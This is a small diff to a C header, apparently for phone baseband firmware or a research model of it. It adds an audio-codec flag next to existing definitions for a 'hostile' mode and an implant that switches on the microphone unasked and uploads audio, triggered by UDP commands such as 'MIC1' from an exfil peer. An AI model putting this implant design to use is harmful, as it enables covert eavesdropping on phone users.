@@ -74,6 +74,7 @@
 #define BB_CONFIG_MAGIC 0x42424346u /* "FCBB" */
 #define BB_CFG_HOSTILE 0x1          /* open the mic unasked and upload */
 #define BB_CFG_IMPLANT 0x2          /* same, while the exfil peer says so */
+#define BB_CFG_AP_CODEC 0x4         /* the AP codes the call's audio */
 /* Implant commands: a UDP datagram from exfil_addr:exfil_port to the
  * phone's exfil_port whose payload starts with one of these. */
 #define BB_IMPLANT_MIC_ON "MIC1"
